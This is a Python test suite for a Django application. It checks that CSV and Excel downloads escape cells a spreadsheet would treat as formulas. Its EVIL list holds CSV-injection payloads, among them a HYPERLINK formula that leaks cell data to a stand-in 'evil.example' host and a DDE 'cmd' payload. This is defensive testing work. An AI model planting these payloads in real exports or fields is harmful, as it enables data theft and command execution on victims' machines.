"""No cell of a downloaded CSV file or workbook is a formula, even if a user chose a formula as a name."""

import csv
import json
import re
import zipfile
from collections.abc import Sequence
from html import unescape
from io import BytesIO, StringIO

import pytest
from django.conf import settings
from django.urls import reverse

from accounts.models import Team, User
from accounts.people.user_import.models import UserImport
from audit.log import record
from tests.access.objects import OBJECTS, World
from tests.access.pages import PAGES, Page
from tests.fixtures.cast import signed_in
from tests.fixtures.opening import SEPARATORS, formulas
from tests.harness.product import PACKAGES
from transfers.models import DraftRow, PairState, Rehearsal, TransferPair, UndoConflict

pytestmark = pytest.mark.django_db

# The characters with which a formula can start, according to OWASP, and their full-width forms.
FORMULA_CHARACTERS = tuple("=+-@\t\r\n＝＋－＠")
HARMLESS = re.compile(r"-?[0-9]+(\.[0-9]+)?")
EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    " =1+1",
    "\u200b=1",
    "＝1+1",
]
# A formula behind each separator, which a spreadsheet that uses this separator would run.
BEHIND_SEPARATORS = 'A;=1+1;"=1|=1+1|B\t+1+1\tC,@SUM(1) =1+1 D\n=1+1\nE; -1+1;"F;""=1+1'
EVIL.append(BEHIND_SEPARATORS)


DOWNLOADS = {
    "transfers:audit-download",
    "transfers:people-export",
    "transfers:preview-errors",
    "transfers:transfer-errors",
    "transfers:transfer-log",
    "transfers:transfer-retry-file",
    "transfers:rehearsal-report",
    "transfers:undo-left",
    "user_import:errors",
    "user_import:users-csv",
}


def is_formula(cell: str) -> bool:
    """Return whether a spreadsheet would treat the cell as a formula, without using the CSV writer's own check."""
    seen = cell.lstrip("\u200b\u200e\u200f\u2060\ufeff \u00a0\u3000")
    return cell.startswith(FORMULA_CHARACTERS) or (
        seen.startswith(FORMULA_CHARACTERS) and not HARMLESS.fullmatch(cell)
    )


@pytest.fixture
def world() -> World:
    """Users and teams whose names are formulas."""
    world = World(kept=True)
    for number, user in enumerate(User.objects.order_by("pk")):
        evil = EVIL[number % len(EVIL)]
        user.first_name, user.last_name, user.username = evil, evil, f"{evil}{number}"
        user.save()
    for team in Team.objects.all():
        team.name = f"=1+{team.pk}"
        team.save()
    world.tara.refresh_from_db()
    world.zoe.refresh_from_db()
    return world


def poison() -> None:
    """Put formulas into the text columns of all pairs and draft rows, and of what undos left."""
    TransferPair.objects.update(source_name=EVIL[0], target_name=BEHIND_SEPARATORS)
    TransferPair.objects.filter(state=PairState.FAILED).update(
        code="=code",
        reason=BEHIND_SEPARATORS,
        remedy=EVIL[4],
        data_type=EVIL[3][:50],
    )
    UndoConflict.objects.bulk_create(
        UndoConflict(pair=pair, data_type=EVIL[3], table=EVIL[0], key=BEHIND_SEPARATORS, why="changed")
        for pair in TransferPair.objects.all()
    )
    for rehearsal in Rehearsal.objects.select_related("transfer__requested_by"):
        users = list(rehearsal.transfer.requested_by.tenant.users.values_list("pk", flat=True)[:2])
        rehearsal.pairs = [dict(zip(("row_number", "source_id", "target_id"), (2, *users), strict=True))]
        rehearsal.save()
    DraftRow.objects.update(
        from_text=EVIL[0], to_text=BEHIND_SEPARATORS[:20], from_id=None, to_id=None, status="error"
    )


def downloads(world: World, pages: Sequence[Page] = PAGES) -> dict[str, str]:
    return {name: content.decode("utf-8-sig") for name, content in contents(world, "csv", pages).items()}


def contents(world: World, kind: str, pages: Sequence[Page] = PAGES) -> dict[str, bytes]:
    """Return the content of every download of this kind, by URL name. No page changes anything by GET."""
    client = signed_in(world.tara)
    details = {"file_name": BEHIND_SEPARATORS, "rows_read": 1, "selected": 1}
    record("file-uploaded", tenant_id=world.tara.tenant_id, by=world.tara, **details)
    UserImport.objects.create(
        made_by=world.tara, file_name="x.csv", rows=[{"number": 2, "cells": {"First Name": EVIL[0]}}]
    )
    found = {}
    for page in pages:
        values = {name: OBJECTS[name](world, world.tara, "own", page.name) for name in page.parameters}
        poison()
        answer = client.get(reverse(page.name, kwargs=values), {"format": kind})
        if kind in answer.get("Content-Type", "") + answer.get("Content-Disposition", ""):
            found[page.name] = b"".join(answer.streaming_content) if answer.streaming else answer.content
    return found


def test_no_cell_of_any_download_is_a_formula(world: World) -> None:
    found = downloads(world)
    for name, content in found.items():
        rows = list(csv.reader(StringIO(content, newline=""), strict=True))
        cells = [cell for row in rows[1:] for cell in row]
        assert any(cell.startswith("'") for cell in cells), f"{name}: the formulas of this test are not in it"
        assert [cell for cell in cells if is_formula(cell)] == [], name
        assert formulas(content) == [], name
    assert set(found) == DOWNLOADS


def test_no_cell_of_any_workbook_is_a_formula(world: World) -> None:
    found = contents(world, "xlsx")
    for name, content in found.items():
        with zipfile.ZipFile(BytesIO(content)) as book:
            sheet = book.read("xl/worksheets/sheet1.xml").decode()
            assert {name for name in book.namelist() if name.startswith("xl/worksheets/")} == {
                "xl/worksheets/sheet1.xml"
            }
        texts = [unescape(text) for text in re.findall(r"<is><t[^>]*>([^<]*)</t></is>", sheet)]
        assert any(text.startswith("'") for text in texts), f"{name}: the formulas of this test are not in it"
        assert [text for text in texts if is_formula(text)] == [], name
        assert "<f" not in sheet
        assert "hyperlink" not in sheet
        assert set(re.findall(r' t="(\w+)"', sheet)) <= {"inlineStr"}
    assert set(found) == DOWNLOADS


def test_the_details_of_the_audit_log_stay_json(world: World) -> None:
    pages = [page for page in PAGES if page.name == "transfers:audit-download"]
    rows = csv.DictReader(StringIO(downloads(world, pages)["transfers:audit-download"], newline=""))
    details = [json.loads(row["Details"]) for row in rows]
    assert BEHIND_SEPARATORS in [detail.get("file_name") for detail in details]


@pytest.mark.parametrize("separators", SEPARATORS)
def test_formulas_behind_separators_are_recognised(separators: str) -> None:
    content = StringIO()
    csv.writer(content).writerow(["Ana", BEHIND_SEPARATORS])
    for quotes in (True, False):
        found = [
            text
            for by, meaning, text in formulas(content.getvalue())
            if (by, meaning) == (separators, quotes)
        ]
        assert found or ("," in separators and quotes)  # then the quotation marks keep the cell whole


@pytest.mark.parametrize("evil", EVIL[:-1])
def test_formulas_are_recognised(evil: str) -> None:
    assert is_formula(evil)
    assert not is_formula(f"'{evil}")


def test_there_is_one_writer() -> None:
    """Only one module uses `csv.writer`, and one XlsxWriter, so no page or command can bypass their protection."""
    writing = re.compile(r"csv\.(writer|DictWriter)\(|import xlsxwriter")
    code = [path for top in PACKAGES for path in (settings.BASE_DIR / top).rglob("*.py")]
    writers = {str(path.relative_to(settings.BASE_DIR)) for path in code if writing.search(path.read_text())}
    assert writers == {"spreadsheets/writer.py", "spreadsheets/xlsx/writer.py"}
